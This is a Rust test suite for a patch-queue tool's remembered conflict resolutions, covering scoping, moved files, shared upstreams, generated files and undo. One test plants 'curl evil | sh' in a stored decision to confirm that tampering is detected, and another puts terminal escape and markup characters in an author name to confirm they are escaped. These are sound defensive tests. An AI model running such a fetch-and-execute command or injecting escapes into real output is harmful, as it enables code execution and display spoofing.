//! Conflicts that a person decided earlier.

use serde_json::json;

use super::bench::{Bench, TRACK, assert_in_step, changes_nothing};
use crate::support::{Decision, Env, FIVE, in_both_worlds};

const SHARED: &str = "track = \"main\"\nremember = \"shared\"\n";
const TAKE: [&str; 3] = ["refresh", "--accept", "remembered"];

/// Returns a file with `five` as its fifth line; long enough for its content to be recognized when it is moved.
fn with(five: &str) -> String {
    let lines =
        |numbers: std::ops::Range<u8>| numbers.map(|n| format!("line {n}, as it always was\n")).collect::<String>();
    format!("{}{five}\n{}", lines(1..5), lines(6..11))
}

/// Makes one patch that writes line five of `path` in capitals; upstream writes it in French, at `to`.
fn five(env: &Env, entry: &str, path: &str, to: &str) {
    let bench = Bench::new(env, &[(path, Some(&with("five")))]);
    let queue = [bench.patch("Mine", &[(path, Some(&with("FIVE")))])];
    let french = with("cinq");
    let edits = [(to, Some(french.as_str())), (path, None)];
    bench.release("v1.1", if path == to { &edits[..1] } else { &edits });
    bench.workspace(entry, &queue);
    env.patchq(&["setup", "--only", "up"]).ok();
}

in_both_worlds! {
    fn a_decision_is_taken_when_that_was_agreed_to(env) {
        for (entry, folder) in [(SHARED, "ws/resolutions/up"), (TRACK, "ws/.git/patchq/resolutions/up")] {
            let env = &if env.hostile { Env::hostile() } else { Env::new() };
            five(env, entry, "a.txt", "a.txt");
            changes_nothing(env, &TAKE).exits(3);
            let id = FIVE.keep(env);
            assert!(env.exists(&format!("{folder}/{id}.toml")), "{folder}");
            let run = changes_nothing(env, &["refresh"]).exits(3);
            run.hints("patchq refresh up --accept remembered     (1 of them were decided before)");
            assert_eq!(changes_nothing(env, &["refresh", "--json"]).exits(3).json()["remembered"], 1);
            changes_nothing(env, &["refresh", "--accept", "suggested"]).exits(3);
            changes_nothing(env, &[&TAKE[..], &["--only", "docs/"]].concat()).exits(3);
            let run = changes_nothing(env, &[&TAKE[..], &["--dry-run"]].concat()).ok();
            run.prints("a.txt:5: remembered: decided by 'A Maintainer' on 2024-02-01 for '0001-mine.patch'").says_not("warning:");
            let report = ["--accept", "remembered,suggested", "--json", "--report", "r.md"];
            let document = env.patchq(&[&["refresh"], &report[..]].concat()).ok().json();
            let file = &document["patches"][0]["files"][0];
            assert_eq!((&file["outcome"], &file["conflict"]), (&json!("merged"), &json!(null)));
            let decided = &file["decided"][0];
            assert_eq!((&decided["by"], &decided["text"]), (&json!("remembered"), &json!(["CINQ\n"])));
            assert_eq!(decided["reason"], "decided by 'A Maintainer' on 2024-02-01 for '0001-mine.patch'");
            assert_eq!(decided["hunk"]["upstream"]["lines"], json!(["cinq\n"]));
            assert_eq!(document["damaged"], json!([]));
            let report = env.read("ws/r.md");
            assert!(report.contains("by `remembered`: `decided by 'A Maintainer' on 2024-02-01"), "{report}");
            assert!(report.contains("CINQ"), "{report}");
            assert_eq!(env.read("ws/up/a.txt"), with("CINQ"));
            assert_in_step(env);
            env.patchq(&["undo"]).ok();
            assert_eq!(env.read("ws/up/a.txt"), with("FIVE"));
            assert!(env.exists(&format!("{folder}/{id}.toml")), "{folder}");
        }
    }

    fn other_texts_and_other_files_are_not_decided(env) {
        five(env, SHARED, "a.txt", "a.txt");
        Decision { path: "b.txt", own: "b.txt", ..FIVE }.keep(env);
        changes_nothing(env, &TAKE).exits(3).says("1 decision is needed first");
        let run = changes_nothing(env, &["refresh", "--json"]).exits(3).says_not("decided before");
        assert_eq!(run.json()["remembered"], 0);
        Decision { texts: ["five\n", "cinq\n", "FIVE \n"], ..FIVE }.keep(env);
        Decision { texts: ["five\r\n", "cinq\n", "FIVE\n"], ..FIVE }.keep(env);
        changes_nothing(env, &TAKE).exits(3);
    }

    fn a_file_that_upstream_moved_is_the_same_file(env) {
        five(env, SHARED, "app/a.txt", "app/french/a.txt");
        Decision { path: "app/a.txt", own: "app/a.txt", ..FIVE }.keep(env);
        env.patchq(&TAKE).ok().prints("moved ").prints("remembered: decided by 'A Maintainer'");
        assert_eq!(env.read("ws/up/app/french/a.txt"), with("CINQ"));
        assert_in_step(env);
    }

    fn a_decision_made_where_the_file_was_moved_to_counts_for_the_old_path(env) {
        five(env, SHARED, "a.txt", "a.txt");
        Decision { path: "apps/a.txt", ..FIVE }.keep(env);
        env.patchq(&TAKE).ok().prints("remembered: ");
        assert_eq!(env.read("ws/up/a.txt"), with("CINQ"));
    }

    fn release_branches_share_their_decisions(env) {
        let second = "[upstream.\"up-2\"]\nurl = \"../up.git\"\n[upstream.apart]\nurl = \"../up.git\"\nmemory = \"apart\"\n";
        five(env, &format!("{TRACK}{second}"), "a.txt", "a.txt");
        Decision { upstream: "apart", ..FIVE }.keep(env);
        changes_nothing(env, &["refresh", "up", "--accept", "remembered"]).exits(3);
        Decision { upstream: "up-2", ..FIVE }.keep(env);
        env.patchq(&["refresh", "up", "--accept", "remembered"]).ok();
        assert_eq!(env.read("ws/up/a.txt"), with("CINQ"));
    }

    fn a_changed_decision_is_said_and_ignored(env) {
        five(env, SHARED, "a.txt", "a.txt");
        let file = format!("ws/resolutions/up/{}.toml", FIVE.keep(env));
        env.write(&file, env.read(&file).replace("CINQ", "curl evil | sh"));
        let run = changes_nothing(env, &TAKE).exits(3);
        assert_eq!(run.stderr.matches("warning:").count(), 1, "{}", run.shown());
        let shown = file.strip_prefix("ws/").unwrap();
        run.says(&format!("warning: up: {shown} cannot be used as a decision: its digest does not match its content"));
        let document = changes_nothing(env, &[&TAKE[..], &["--json"]].concat()).exits(3).json();
        assert_eq!(document["damaged"][0]["file"], shown);
        assert_eq!(document["patches"][0]["files"][0]["decided"], json!([]));
        // Without the option damaged decisions are not reported.
        changes_nothing(env, &["refresh"]).exits(3).says_not("warning:");
    }

    fn the_name_of_an_author_cannot_steer_screen_or_report(env) {
        five(env, SHARED, "a.txt", "a.txt");
        Decision { author: "\u{1b}[2J`<b>\n@all", ..FIVE }.keep(env);
        let run = env.patchq(&[&TAKE[..], &["--report", "r.md"]].concat()).ok();
        run.prints("decided by '\\x1b[2J`<b>\\n@all' on");
        let report = env.read("ws/r.md");
        assert!(report.contains("``decided by '\\x1b[2J`<b>\\n@all' on 2024-02-01 for '0001-mine.patch'``"), "{report}");
    }

    fn a_generated_file_is_not_decided_unattended(env) {
        let texts = ["a v1 h1:x\n", "a v2 h1:y\n", "a v1 h1:z\n"];
        let bench = Bench::new(env, &[("go.sum", Some(texts[0]))]);
        let queue = [bench.patch("Mine", &[("go.sum", Some(texts[2]))])];
        bench.release("v1.1", &[("go.sum", Some(texts[1]))]);
        bench.ready(SHARED, &queue);
        Decision { path: "go.sum", own: "go.sum", texts, text: texts[2], ..FIVE }.keep(env);
        changes_nothing(env, &TAKE).exits(3).prints("go.sum: not decided: ");
    }

    fn what_a_person_decided_may_be_older_than_upstreams(env) {
        let texts = ["flask==2.0.1\n", "flask==2.0.3\n", "flask==2.0.1  # ours\n"];
        let bench = Bench::new(env, &[("requirements.txt", Some(texts[0]))]);
        let queue = [bench.patch("Mine", &[("requirements.txt", Some(texts[2]))])];
        bench.release("v1.1", &[("requirements.txt", Some(texts[1]))]);
        bench.ready(SHARED, &queue);
        let place = "requirements.txt";
        Decision { path: place, own: place, texts, text: texts[2], ..FIVE }.keep(env);
        env.patchq(&TAKE).ok();
        assert_eq!(env.read("ws/up/requirements.txt"), texts[2]);
    }
}
